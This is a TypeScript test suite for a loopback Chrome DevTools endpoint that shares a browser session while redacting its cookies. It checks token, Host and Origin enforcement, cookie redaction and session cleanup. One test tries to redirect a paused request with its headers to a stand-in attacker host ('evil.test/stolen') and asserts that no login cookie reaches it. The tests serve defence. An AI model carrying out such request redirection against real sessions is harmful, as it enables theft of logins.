import assert from "node:assert/strict";
import { connect } from "node:net";
import { after, before, test } from "node:test";
import { setTimeout as sleep } from "node:timers/promises";
import {
  type EndpointBrowser,
  startEndpointBrowser,
  type TestSession,
} from "../../../test/support/endpoint-browser.ts";
import { type RawClient, rawClient } from "../../../test/support/raw-client.ts";
import { noChromium } from "../../../test/support/real-chromium.ts";
import { LoopbackEndpointServer } from "./endpoint-server.ts";

const SECRET = "ENDPOINT-c4n4ry/0001+secret=";
const ROTATED = "ROTATED-c4n4ry-0002-zz";
/** Not of icons, which the browser asks for when it likes. */
const STAGES = ["Request", "Response"].map((requestStage) => ({ requestStage, resourceType: "Document" }));

const skip = noChromium;
let browsers: EndpointBrowser;
let server: LoopbackEndpointServer;
let session: TestSession;
let url: string;

before(async () => {
  if (skip !== false) return;
  browsers = await startEndpointBrowser();
  server = new LoopbackEndpointServer();
  session = await login();
  ({ url } = await server.serve(session));
});
after(async () => {
  await server?.[Symbol.asyncDispose]();
  await browsers?.[Symbol.asyncDispose]();
});

function login(options: { expose?: boolean } = {}): Promise<TestSession> {
  const cookie = { domain: "shop.test", path: "/" };
  return browsers.session({
    hidden: [
      { name: "sid", value: SECRET, ...cookie },
      { name: "pin", value: "4711", ...cookie },
    ],
    ...options,
  });
}

/** The status line of what answers. */
function knock(path: string, headers: Record<string, string>): Promise<string> {
  const { port } = new URL(url);
  return new Promise((resolve, reject) => {
    const socket = connect(Number(port), "127.0.0.1");
    const lines = Object.entries(headers).map(([name, value]) => `${name}: ${value}\r\n`);
    socket.write(`GET ${path} HTTP/1.1\r\n${lines.join("")}\r\n`);
    socket.once("data", (data) => {
      socket.destroy();
      resolve(data.toString().split("\r\n")[0] ?? "");
    });
    socket.once("error", reject);
  });
}

async function firstPage(client: RawClient): Promise<string> {
  const answer = await client.ask("Target.attachToTarget", { targetId: session.page, flatten: true });
  return String(answer?.result?.["sessionId"]);
}

async function until(what: () => boolean): Promise<void> {
  for (let i = 0; i < 1000 && !what(); i++) await sleep(25);
  assert.ok(what());
}

test("only who knows the token comes in, and never a web page", { skip, timeout: 60_000 }, async () => {
  const { host, pathname } = new URL(url);
  const upgrade = {
    Connection: "Upgrade",
    Upgrade: "websocket",
    "Sec-WebSocket-Version": "13",
    "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
  };
  assert.match(await knock(pathname, { Host: host, ...upgrade }), /101/);
  assert.match(await knock(pathname, { Host: host, ...upgrade, Origin: "http://127.0.0.1" }), /403/);
  assert.match(await knock(pathname, { Host: host, ...upgrade, Origin: "null" }), /403/);
  assert.match(await knock(pathname, { Host: "evil.test", ...upgrade }), /404/);
  assert.match(await knock(`${pathname}x`, { Host: host, ...upgrade }), /404/);
  assert.match(await knock("/", { Host: host, ...upgrade }), /404/);
  assert.match(await knock("/json/version", { Host: host }), /404/);
  assert.match(await knock(`${pathname}/json/version`, { Host: "evil.test" }), /404/);
  assert.match(await knock(`${pathname}/json/version`, { Host: host }), /200/);
  await until(() => session.held() === 0);
});

test("what begins with http finds the session and its pages", { skip, timeout: 60_000 }, async () => {
  const http = url.replace("ws:", "http:");
  const version = (await (await fetch(`${http}/json/version`)).json()) as Record<string, string>;
  assert.equal(version["webSocketDebuggerUrl"], url);
  assert.match(version["Browser"] ?? "", /Chrom/);
  const list = (await (await fetch(`${http}/json/list/`)).json()) as Record<string, string>[];
  assert.deepEqual(
    list.map(({ id }) => id),
    [session.page],
  );
  await using client = await rawClient(list[0]?.["webSocketDebuggerUrl"] ?? "");
  const { result } = (await client.ask("Runtime.evaluate", { expression: "6 * 7" })) ?? {};
  assert.deepEqual(result?.["result"], { type: "number", value: 42, description: "42" });
  const { result: own } = (await client.ask("Target.getTargetInfo")) ?? {};
  assert.match(JSON.stringify(own), new RegExp(session.page));
  await assert.rejects(rawClient(`${url}/devtools/page/0123456789ABCDEF0123456789ABCDEF`), /refused/);
});

test("a cloned login is used and not seen, in any answer or event", { skip, timeout: 60_000 }, async () => {
  await using client = await rawClient(url);
  const page = await firstPage(client);
  await client.ask("Network.enable", {}, page);
  await client.ask("Fetch.enable", { patterns: STAGES }, page);
  const origin = browsers.origin("shop.test");
  const go = async (path: string) => {
    const { length } = client.heard;
    const going = client.ask("Page.navigate", { url: `${origin}${path}` }, page);
    for (let stage = 0; stage < 2; stage++) {
      const paused = () => client.heard.slice(length).filter((text) => text.includes("Fetch.requestPaused"));
      await until(() => paused().length > stage);
      const { params } = JSON.parse(paused()[stage] ?? "") as {
        params: { requestId: string; request: unknown };
      };
      const { requestId } = params;
      if (stage === 1) {
        const body = await client.ask("Fetch.getResponseBody", { requestId }, page);
        if (path === "/echo") assert.match(atob(String(body?.result?.["body"])), /^you sent/);
      }
      await client.ask("Fetch.continueRequest", { requestId }, page);
    }
    await going;
    await until(() => client.heard.slice(length).some((text) => text.includes("Network.loadingFinished")));
    const finished = client.heard.slice(length).find((text) => text.includes("Network.loadingFinished"));
    const { params } = JSON.parse(finished ?? "") as { params: { requestId: string } };
    await client.ask("Network.getResponseBody", { requestId: params.requestId }, page);
  };
  await go("/echo");
  assert.equal(browsers.cookiesSent.get("shop.test/echo"), `sid=${SECRET}; pin=4711`);
  await go("/rotate");
  await go("/echo");
  assert.equal(browsers.cookiesSent.get("shop.test/echo"), `pin=4711; sid=${ROTATED}`);
  for (const method of ["Network.getAllCookies", "Network.getCookies", "Storage.getCookies"]) {
    const answer = await client.ask(method, {}, page);
    const cookies = answer?.result?.["cookies"] as { name: string; value: string }[];
    assert.deepEqual(
      cookies.map(({ name, value }) => `${name}=${value}`).sort(),
      ["pin=[redacted]", "sid=[redacted]"],
      method,
    );
  }
  await client.ask("Storage.getCookies");
  const text = client.heard.join("\n");
  assert.match(text, /ExtraInfo/);
  for (const form of [SECRET, ROTATED, encodeURIComponent(SECRET)]) assert.ok(!text.includes(form), form);
  // A short value is hidden where cookies stand; a page that prints it shows it.
  assert.doesNotMatch(text, /cookie":"[^"]*4711/i);
  for (const start of [0, 1, 2])
    assert.ok(!text.includes(btoa("x".repeat(start) + SECRET).slice(start === 0 ? 0 : 4, 28)));
});

test("changing a request's address does not carry the login there", { skip, timeout: 60_000 }, async () => {
  const fresh = await login();
  await using endpoint = await server.serve(fresh);
  await using client = await rawClient(endpoint.url);
  const attached = await client.ask("Target.attachToTarget", { targetId: fresh.page, flatten: true });
  const page = String(attached?.result?.["sessionId"]);
  await client.ask("Fetch.enable", {}, page);
  const going = client.ask("Page.navigate", { url: `${browsers.origin("shop.test")}/` }, page);
  await until(() => client.heard.some((text) => text.includes("Fetch.requestPaused")));
  const paused = client.heard.find((text) => text.includes("Fetch.requestPaused")) ?? "";
  const { params } = JSON.parse(paused) as {
    params: { requestId: string; request: { headers: Record<string, string> } };
  };
  const headers = Object.entries(params.request.headers).map(([name, value]) => ({ name, value }));
  await client.ask(
    "Fetch.continueRequest",
    { requestId: params.requestId, url: `${browsers.origin("evil.test")}/stolen`, headers },
    page,
  );
  await going;
  await until(
    () => browsers.cookiesSent.has("evil.test/stolen") || browsers.cookiesSent.has("shop.test/stolen"),
  );
  assert.equal(browsers.cookiesSent.get("evil.test/stolen"), "");
});

test("a grant that exposes shows the values", { skip, timeout: 60_000 }, async () => {
  await using endpoint = await server.serve(await login({ expose: true }));
  await using client = await rawClient(endpoint.url);
  const answer = await client.ask("Storage.getCookies");
  assert.match(JSON.stringify(answer), /ENDPOINT-c4n4ry/);
});

test("a revoked endpoint and an ended session let nobody in and send everybody away", {
  skip,
  timeout: 60_000,
}, async () => {
  const ending = await login();
  const endpoint = await server.serve(ending);
  const client = await rawClient(endpoint.url);
  assert.equal(ending.held(), 1);
  ending.end("disposed");
  await client.closed;
  await assert.rejects(rawClient(endpoint.url), /refused/);
  await until(() => ending.held() === 0);

  const revoked = await server.serve(session);
  const second = await rawClient(revoked.url);
  await revoked[Symbol.asyncDispose]();
  await second.closed;
  await assert.rejects(rawClient(revoked.url), /refused/);
});

test("a client that leaves leaves no session behind in the browser", { skip, timeout: 60_000 }, async () => {
  await until(() => session.held() === 0);
  const client = await rawClient(url);
  await firstPage(client);
  await client.ask("Target.attachToBrowserTarget");
  await client[Symbol.asyncDispose]();
  await until(() => session.held() === 0);
  const { targetInfos } = await browsers.chromium.connection.call("Target.getTargets", { filter: [{}] });
  const attached = (targetInfos as { targetId: string; attached: boolean }[]).filter(
    (info) => info.attached && info.targetId === session.page,
  );
  assert.deepEqual(attached, []);
});
